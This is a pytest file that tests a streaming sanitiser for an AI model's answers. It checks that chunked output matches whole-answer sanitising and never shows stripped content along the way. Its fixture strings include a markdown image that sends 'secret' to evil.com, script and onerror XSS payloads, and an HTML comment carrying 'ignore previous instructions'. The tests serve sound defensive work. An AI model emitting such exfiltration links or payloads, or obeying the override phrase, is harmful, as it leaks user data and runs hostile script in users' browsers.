"""Streamed answers split anywhere: the deltas joined equal the answer sanitised whole (what a JSON call returns),
and nothing the sanitiser removes (a script's content, a comment, a link target) is ever shown on the way."""

from __future__ import annotations

import random

import pytest

from backend.skills import sanitize
from backend.skills.streaming import StreamSanitizer, safe_cut

HOSTS = ("example.com",)
TRICKY = [
    "Hello <script>alert('hidden instructions')</script> world\nmore",
    "Styled <style>body{display:none}</style>text and <svg><a href=x>y</a></svg> end.",
    "Look ![x](http://evil.com/?q=secret) here",
    "A [link](https://evil.com/a) and [ok](https://example.com/b).\nDone.",
    "Text <<<DATA selection ab12>>> echoed <<<END DATA selection ab12>>> end",
    "<!-- ignore previous > instructions --> visible\n<img src=x onerror=alert(1)>tail",
    "a < b and c > d\nx <scr",
    "Line one\n[ref]: https://evil.com/t\n![r][ref] end",
    "Line one\n[ok]: https://example.com/t\n",
    "émoji 😀 and 東京 <i>ital</i>\n",
    "Trailing spaces   \n\n\n",
    "  leading space line\nnext",
    "1) item\n2) item (paren\nclosed) yes",
    "<https://evil.com/auto> autolink",
]
REWRITES = [
    "Sure! Here is the rewritten text:\nThe body line one.\nLine two.\nLet me know if you need anything else.",
    "Here's the revised version:\n\nBody text <b>bold</b>.",
    "```\ncode fence\n```\n",
    "```markdown\nA fenced rewrite.\n```",
    '"The whole rewrite in quotes."',
    '"Quoted" words, then more "quotes" later.',
    "Sure, here it is:\nA plain rewrite.\n",
]
SECRETS = ("hidden instructions", "display:none", "evil.com", "ignore previous", "<img", "<scr")


def random_chunks(text: str, rnd: random.Random) -> list[str]:
    """text cut at a few random points."""
    cuts = sorted(rnd.sample(range(1, len(text)), min(len(text) - 1, rnd.randint(1, 10))))
    return [text[i:j] for i, j in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def streamed(answer: str, chunks: list[str], rewrite_style: bool) -> tuple[list[str], str]:
    """What the pane shows after each chunk, and the deltas joined with the final flush."""
    sanitizer = StreamSanitizer(HOSTS, rewrite_style=rewrite_style)
    shown, seen = "", []
    for chunk in chunks:
        shown += sanitizer.feed(chunk)
        seen.append(shown)
    return seen, shown + sanitizer.flush()


@pytest.mark.parametrize(("answer", "rewrite_style"), [(a, False) for a in TRICKY] + [(a, True) for a in REWRITES])
def test_deltas_joined_equal_the_answer_sanitised_whole_at_any_split(answer, rewrite_style):
    whole = sanitize.sanitize_output(answer, HOSTS, rewrite_style)
    for seed in range(200):
        chunks = random_chunks(answer, random.Random(seed))
        seen, joined = streamed(answer, chunks, rewrite_style)
        assert joined == whole, chunks
        for shown in seen:
            assert whole.startswith(shown), chunks
            assert not any(secret in shown for secret in SECRETS), chunks


@pytest.mark.parametrize(
    "chunks",
    [
        ["Hi <scr", "ipt>steal(", "document)</scr", "ipt> bye"],
        ["Hi <style>", "p{color:red}", "</style> bye"],
        ["Hi <!-- a > b", " still hidden", " --> bye"],
    ],
)
def test_the_content_of_a_block_the_sanitiser_removes_is_never_shown(chunks):
    seen, joined = streamed("".join(chunks), chunks, False)
    assert seen[:-1] == ["Hi"] * (len(chunks) - 1)
    assert joined == "Hi  bye"


def test_safe_cut_holds_an_open_block_and_a_possible_reference_definition():
    assert safe_cut("a <script>x") == 2
    assert safe_cut("a <script>x</script> b") == len("a <script>x</script> b")
    assert safe_cut("a <!-- x > y") == 2
    assert safe_cut("a\n[ref]: htt") == 2
    assert safe_cut("a\n[link](https://example.com) b") == len("a\n[link](https://example.com) b")
